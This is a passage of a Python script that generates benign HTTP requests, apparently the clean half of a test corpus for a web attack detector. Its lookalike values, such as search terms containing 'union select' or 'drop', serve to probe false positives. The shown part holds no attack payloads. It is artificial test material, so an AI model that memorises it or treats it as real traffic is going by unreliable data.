     '<?xml version="1.0" encoding="UTF-8"?>\n<inventory warehouse="DUB-1" generated="2024-06-03T06:00:00Z">'
     '<item sku="FW-SS24/07-LILAC" qty="14"/><item sku="M8x25-DIN912-A2" qty="2500"/>'
     '<item sku="3/4&quot; BSP-ELBOW" qty="60"/></inventory>'),
]

UPLOADS = ["Q3 report (final) v2.pdf", "IMG_20240601_134502.jpg", "O'Brien – CV (2024).docx", "résumé_Nuñez-Ruiz.pdf",
           "budget 2024-25 [draft].xlsx", "Screenshot 2024-06-03 at 10.41.22.png", "notes & todo's.txt",
           "export_orders_2024-06-01T00-00-00Z.csv", "写真 2024.jpeg", "site-backup.tar.gz"]

HEADER_VALUES = [
    ("X-Forwarded-For", "203.0.113.45"),
    ("X-Forwarded-For", "198.51.100.17, 10.0.3.21"),
    ("X-Forwarded-For", "2001:db8:85a3::8a2e:370:7334, 172.16.4.2"),
    ("X-Forwarded-For", "192.0.2.60, 198.51.100.2, 10.12.0.5, 127.0.0.1"),
    ("X-Forwarded-For", "unknown, 203.0.113.9"),
    ("X-Forwarded-For", "100.64.12.7"),
    ("X-Forwarded-For", "203.0.113.200:51234"),
    ("X-Forwarded-For", '"[2001:db8::1]:4711", 192.0.2.43'),
    ("X-Real-IP", "203.0.113.77"),
    ("X-Real-IP", "2001:db8:1f70::999:de8:7648:6e8"),
    ("X-Real-IP", "198.51.100.254"),
    ("X-Real-IP", "10.20.30.40"),
    ("X-Real-IP", "192.0.2.1"),
    ("Referer", "https://www.google.com/search?q=union+jack+bunting+select+size&hl=en"),
    ("Referer", "https://duckduckgo.com/?q=drop+leaf+table+oak&ia=web"),
    ("Referer", "https://www.bing.com/search?q=cat+sitting+tips&form=QBLH"),
    ("Referer", "https://news.example.com/2024/06/01/best-kettles?utm_source=rss&utm_medium=feed"),
    ("Referer", "https://shop.example/cart?step=2&coupon=SUMMER24"),
    ("Referer", "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example%2Fp%2F4711&h=AT0abc"),
    ("Referer", "android-app://com.google.android.gm/"),
    ("Referer", "https://t.co/Ab3xYz9QwE"),
    ("Origin", "https://shop.example"),
    ("Origin", "https://admin.shop.example"),
    ("Origin", "http://localhost:5173"),
    ("Origin", "https://partner-portal.example.org"),
    ("Origin", "null"),
    ("Origin", "https://shop.example:8443"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Api-Version", "v2"),
    ("X-Api-Version", "2023-10-16"),
    ("X-Api-Version", "1.4.2"),
    ("X-Api-Version", "2024-06-01.preview"),
    ("X-Original-URL", "/products/4711?ref=nav"),
    ("X-Original-URL", "/api/v1/orders?page=2&per_page=50"),
    ("X-Original-URL", "/blog/2024/06/summer-sale"),
    ("X-Original-URL", "/account/settings#notifications"),
    ("X-Original-URL", "/search?q=o%27brien+cookbook"),
    ("X-Custom-Filter", "status:open priority:high"),
    ("X-Custom-Filter", "category=shoes;size=42;colour=navy"),
    ("X-Custom-Filter", "created_after=2024-01-01&created_before=2024-06-30"),
    ("X-Custom-Filter", "tag:summer-sale OR tag:clearance"),
    ("X-Custom-Filter", "owner=me,team=payments"),
    ("X-Custom-Filter", "price>=10 and price<=50"),
    ("X-Custom-Filter", "region in (eu-west, eu-central)"),
    ("X-Custom-Filter", "-archived +starred"),
    ("Accept-Language", "en-IE,en-GB;q=0.9,en;q=0.8,ga;q=0.6"),
    ("Accept-Language", "es-ES,es;q=0.9,ca;q=0.7,en;q=0.5"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en-US;q=0.6"),
    ("Accept-Language", "pt-BR"),
    ("Accept-Language", "de-CH, de;q=0.9, fr-CH;q=0.8, *;q=0.5"),
    ("Accept-Language", "ja,en-US;q=0.9,en;q=0.8"),
    ("Accept-Language", "sr-Latn-RS,sr;q=0.8"),
    ("Accept-Language", "*"),
    ("From", "crawler+ops@search-bot.example"),
    ("From", "feedfetcher+abuse@reader.example.net"),
    ("From", "monitoring@status.example.org"),
    ("From", "webmaster@archive-crawler.example (contact for issues)"),
    ("From", "Research crawler <crawl-team+2024@uni.example.edu>"),
    ("Authorization", "jwt"),
    ("Authorization", "Basic " + base64.b64encode(b"jane.doe@example.com:correct horse battery staple").decode()),
    ("Authorization", "github_pat"),
    ("Authorization", "token"),
    ("Authorization", "digest"),
    ("Authorization", "aws4"),
]

PATH_SLUGS = [
    ("/blog/2024/06/{}/comments", "drop-me-a-line-the-art-of-postcards"),
    ("/recipes/{}/reviews", "shepherd's-pie-with-a-twist"),
    ("/authors/{}/books", "o'brien-seán"),
    ("/kb/{}/feedback", "how-to-select-the-union-option-at-checkout"),
    ("/products/{}/reviews", "echo-chamber-speaker-2nd-gen"),
    ("/events/{}/rsvp", "cat-sitting-101-workshop"),
    ("/wiki/{}/history", "Nuñez-Ruiz_family"),
    ("/tags/{}/posts", "c++"),
    ("/files/2024/{}/preview", "Q3 report (final) v2.pdf"),
    ("/maps/{}/nearby", "53.3498,-6.2603"),
    ("/music/{}/albums", "AC/DC"),
    ("/api/v1/orders/{}/items", "A-20931"),
]

QUERY_NAMES = [
    [("filter[status]", "open"), ("filter[owner]", "me")],
    [("page[number]", "3"), ("page[size]", "25")],
    [("fields[articles]", "title,body"), ("include", "author,comments")],
    [("sort", "-created_at,title")],
    [("items[0][sku]", "TS-1042"), ("items[0][qty]", "2"), ("items[1][sku]", "MUG_11oz-WHT"), ("items[1][qty]", "1")],
    [("utm_source", "newsletter"), ("utm_campaign", "summer-sale_2024"), ("utm_content", "hero-banner")],
    [("q[name_cont]", "o'brien"), ("q[s]", "created_at desc")],
    [("options[]", "gift-wrap"), ("options[]", "express")],
]

JSON_KEYS = [
    {"Select all": "Alle auswählen", "Drop files here": "Dateien hier ablegen", "Delete": "Löschen",
     "Update available": "Aktualisierung verfügbar"},
    {"What's new?": "Quoi de neuf ?", "Don't show this again": "Ne plus afficher", "Join the club": "Rejoindre le club"},
    {"checkout.v2.enabled": True, "search/facets": ["brand", "size"], "promo:summer-2024": {"banner": "hero"}},
    {"Order #": "A-20931", "Qty (pcs)": 3, "Unit price (€)": 19.99, "Notes / comments": "Leave at the back door."},
    {"Content-Type": "application/json", "X-Shop-Id": "shop-4711", "Cache-Control": "no-cache"},
    {"名前": "山田太郎", "住所": "東京都千代田区1-1", "電話": "03-1234-5678"},
]

UUID_SHAPES = [
    lambda rng, u: {"booking_id": u(), "check_in": "2024-07-14", "check_out": "2024-07-18T11:00:00+02:00", "guests": 2},
    lambda rng, u: {"id": u(), "updated_at": "2024-06-03T10:41:22.512Z", "status": "shipped",
                    "tracking": {"carrier": "An Post", "number": "CE123456789IE"}},
    lambda rng, u: {"subscription": u(), "renews_on": "2025-01-01", "plan": "yearly", "trial_ends": None},
    lambda rng, u: {"device": u(), "last_seen": "2024-06-02T23:59:59-07:00", "os": "Android 14"},
    lambda rng, u: {"invoice": u(), "period": {"start": "2024-05-01", "end": "2024-05-31"}, "total": "123.00"},
    lambda rng, u: {"correlation_id": u(), "parent_id": u(), "timestamp": "2024-06-01T00:00:00Z"},
    lambda rng, u: {"appointment": {"id": u(), "starts": "2024-06-12T14:30", "duration": "PT45M"}},
    lambda rng, u: {"ids": [u() for _ in range(rng.randint(2, 5))], "action": "archive"},
    lambda rng, u: {"return": {"rma": u(), "reason": "wrong size", "requested": "2024-06-04"}},
    lambda rng, u: {"session": u(), "expires": "2024-06-01T12:00:00+01:00", "remember_me": False},
]


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def api(rng):
    return g.browser_headers(rng, accept="application/json") + g.api_headers(rng)


def fake_pdf(rng) -> bytes:
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n4 0 obj\n<< /Length 812 /Filter /FlateDecode >>"
            b"\nstream\n" + rng.randbytes(rng.randint(600, 4000)) + b"\nendstream\nendobj\n%%EOF\n")


def ascii_pdf(title: str) -> str:
    return ("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R]"
            " /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n4 0 obj\n"
            f"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td ({title}) Tj ET\nendstream\nendobj\ntrailer\n"
            "<< /Root 1 0 R >>\n%%EOF")


def b_search(rng, text):
    return g.request("GET", "/search?" + urllib.parse.urlencode({"q": text, "lang": "en"}), g.browser_headers(rng))


def b_contact(rng, text):
    return g.post_form("/contact", g.browser_headers(rng), [("name", rng.pick(NAMES)), ("email", rng.pick(EMAILS)),
                                                            ("subject", "Question"), ("message", crlf(text))])


def b_name(rng, name):
    fields = [("full_name", name), ("email", rng.pick(EMAILS)), ("phone", rng.pick(PHONES)),
              ("country", rng.choice(["IE", "ES", "IT", "DE", "GB", "US"])), ("terms", "on")]
    if rng.random() < 0.5:
        return g.post_form("/register", g.browser_headers(rng), fields)
    return g.post_json("/api/v1/profile", api(rng), dict(fields))


def b_i18n(rng, entry):
    lang, text = entry
    h = set_header(g.browser_headers(rng), "Accept-Language", f"{lang},en;q=0.5")
    if rng.random() < 0.5:
        return g.post_form("/contact", h, [("name", rng.pick(NAMES)), ("message", text), ("lang", lang)])
    return g.post_json("/api/v1/messages", h, {"locale": lang, "body": text, "channel": "web"})


def b_markdown(rng, md):
    return g.post_json(f"/api/v1/notes/{rng.randint(1000, 99999)}", api(rng),
                       {"format": "markdown", "body": md, "pinned": rng.random() < 0.2, "tags": ["personal"]})


def b_image(rng, _):
    return g.post_json("/api/v1/profile/avatar", api(rng),
                       {"image": g.image_data_url(rng), "crop": {"x": 0, "y": 0, "size": rng.randint(64, 512)}})


def b_pdf(rng, name):
    data = base64.b64encode(fake_pdf(rng)).decode()
    return g.post_json("/api/v1/documents", api(rng),
                       {"filename": name, "content_type": "application/pdf", "data": data, "folder": "invoices"})


def b_jwt(rng, path):
    h = set_header(api(rng), "Authorization", "Bearer " + g.jwt(rng))
    return g.request("GET", path, h)


def b_cookie(rng, path):
    return g.request("GET", path, set_header(g.browser_headers(rng), "Cookie", g.long_cookie(rng)))


def b_uuid(rng, shape):
    doc = shape(rng, lambda: g.uuid4(rng))
    return g.request("PATCH", f"/api/v1/records/{g.uuid4(rng)}", api(rng) + [["Content-Type", "application/json"]],
                     json.dumps(doc, ensure_ascii=False))


def b_oauth(rng, url):
    state = g.b64url(rng.randbytes(12))
    shape = rng.randrange(3)
    if shape == 0:
        query = {"response_type": "code", "client_id": "shop-web", "redirect_uri": url, "scope": "openid profile email",
                 "state": state}
        return g.request("GET", "/oauth/authorize?" + urllib.parse.urlencode(query), g.browser_headers(rng))
    if shape == 1:
        return g.request("GET", "/login?" + urllib.parse.urlencode({"next": url}), g.browser_headers(rng))
    return g.post_form("/logout", g.browser_headers(rng), [("return_to", url), ("csrf", state)])


def b_sku(rng, sku):
    if rng.random() < 0.5:
        return g.request("GET", "/products/search?" + urllib.parse.urlencode({"sku": sku, "in_stock": "1"}),
                         g.browser_headers(rng))
    return g.request("GET", f"/api/v1/inventory/{urllib.parse.quote(sku, safe='')}/levels", api(rng))


def b_csv(rng, text):
    if rng.random() < 0.5:
        return g.post_form("/admin/import", g.browser_headers(rng), [("format", "csv"), ("data", crlf(text))])
    return multipart(rng, "/admin/import", g.browser_headers(rng),
                     [("format", "csv"), ("file", crlf(text), f"import-{rng.randint(1, 99):02d}.csv", "text/csv")])


def b_json_api(rng, doc):
    return g.post_json(rng.choice(["/api/v1/orders", "/api/v1/webhooks/payments", "/api/v1/search", "/api/v1/profile"]),
                       api(rng), doc)


def b_xml(rng, entry):
    ctype, action, body = entry
    h = g.browser_headers(rng, accept="application/xml") + [["Content-Type", ctype]]
    if action:
        h.append(["SOAPAction", f'"{action}"'])
    return g.request("POST", "/soap/orders" if action else "/api/v1/feeds/import", h, body)


def b_upload(rng, name):
    ext = name.rsplit(".", 1)[-1].lower()
    if ext == "pdf":
        content, ctype = ascii_pdf(name.rsplit(".", 1)[0]), "application/pdf"
    elif ext == "txt":
        content, ctype = crlf("- call the plumber\n- drop the car at the garage\n- buy cat food"), "text/plain"
    elif ext == "csv":
        content, ctype = crlf("order_id,total\nA-20931,45.99\nA-20932,12.00"), "text/csv"
    else:
        head = {"jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "jpeg": b"\xff\xd8\xff\xe1\x00\x18Exif\x00\x00",
                "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "docx": b"PK\x03\x04\x14\x00\x06\x00",
                "xlsx": b"PK\x03\x04\x14\x00\x06\x00", "gz": b"\x1f\x8b\x08\x00"}[ext]
        content = (head + rng.randbytes(rng.randint(300, 900))).decode("latin-1")
        ctype = {"jpg": "image/jpeg", "jpeg": "image/jpeg", "png": "image/png", "gz": "application/gzip",
                 "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                 "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}[ext]
    return multipart(rng, "/upload", g.browser_headers(rng),
                     [("title", name.rsplit(".", 1)[0]), ("file", content, browser_filename(name), ctype),
                      ("folder", "shared")])


def header_value(rng, v):
    if v == "jwt":
        return "Bearer " + g.jwt(rng)
    if v == "github_pat":
        return "Bearer github_pat_" + g.b64url(rng.randbytes(60)).replace("-", "A").replace("_", "b")[:82]
    if v == "token":
        return f'Token token="{rng.randbytes(20).hex()}", version="2"'
    if v == "digest":
        return (f'Digest username="jane", realm="shop@example", nonce="{rng.randbytes(16).hex()}", '
                f'uri="/api/v1/orders?page=2", qop=auth, nc=00000001, cnonce="{rng.randbytes(4).hex()}", '
                f'response="{rng.randbytes(16).hex()}", algorithm=MD5')
    if v == "aws4":
        return ("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20240601/eu-west-1/execute-api/aws4_request, "
                f"SignedHeaders=host;x-amz-date, Signature={rng.randbytes(32).hex()}")
    return v


def b_header(rng, entry):
    name, v = entry
    h = set_header(api(rng) if name in ("X-Api-Version", "Authorization", "Origin") else g.browser_headers(rng),
                   name, header_value(rng, v))
    if name == "Origin" and rng.random() < 0.6:
        return g.post_json("/api/v1/cart", h, {"sku": rng.choice(SKUS), "qty": rng.randint(1, 4)})
    path = rng.choice(["/", "/account/orders", "/api/v1/products?page=2", "/products/4711", "/robots.txt"])
    return g.request("GET", path, h)


def b_path(rng, entry):
    shape, slug = entry
    return g.request("GET", shape.format(urllib.parse.quote(slug, safe="")), g.browser_headers(rng))


def b_query_names(rng, pairs):
    return g.request("GET", "/api/v1/articles?" + qs(pairs), api(rng))


def b_json_keys(rng, doc):
    return g.request("PUT", f"/api/v1/settings/{rng.choice(['i18n/de', 'i18n/fr', 'flags', 'export', 'headers', 'i18n/ja'])}",
                     api(rng) + [["Content-Type", "application/json"]], json.dumps(doc, ensure_ascii=False))


PAGES = ["/", "/products/4711", "/cart", "/account/orders", "/blog/2024/06/summer-sale", "/checkout/shipping",
         "/wishlist", "/search?q=kettle"]
JWT_PATHS = ["/api/v1/me", "/api/v1/orders?status=open", "/api/v1/cart", "/api/v1/addresses", "/api/v1/notifications",
             "/api/v1/wishlist", "/api/v1/invoices/2024", "/api/v1/recommendations?limit=8"]

# (kind, builder, the texts or seeds it is built from): one request per entry.
KINDS = [
    ("search_prose", b_search, SEARCHES), ("contact_prose", b_contact, CONTACT), ("name_contact", b_name, NAMES),
    ("i18n", b_i18n, I18N), ("markdown_note", b_markdown, MARKDOWN), ("image_json", b_image, range(8)),
    ("pdf_json", b_pdf, PDF_NAMES), ("jwt_api", b_jwt, JWT_PATHS), ("long_cookie", b_cookie, PAGES),
    ("uuid_date_json", b_uuid, UUID_SHAPES), ("redirect_url", b_oauth, OAUTH_URLS), ("sku", b_sku, SKUS),
    ("csv_import", b_csv, CSVS), ("json_api", b_json_api, JSON_API), ("xml_body", b_xml, XML_BODIES),
    ("multipart_upload", b_upload, UPLOADS), ("header_value", b_header, HEADER_VALUES), ("path_slug", b_path, PATH_SLUGS),
    ("query_names", b_query_names, QUERY_NAMES), ("json_keys", b_json_keys, JSON_KEYS),
]


def benign():
    rng = g.Source(SEED)
    out = g.built_benign("sixth-", KINDS, rng)
    g.require_all_used(rng, "names, e-mails or phones", NAMES, EMAILS, PHONES)
    return out


if __name__ == "__main__":
    g.corpus_main(attacks, benign, ATTACKS, PLACEMENTS)
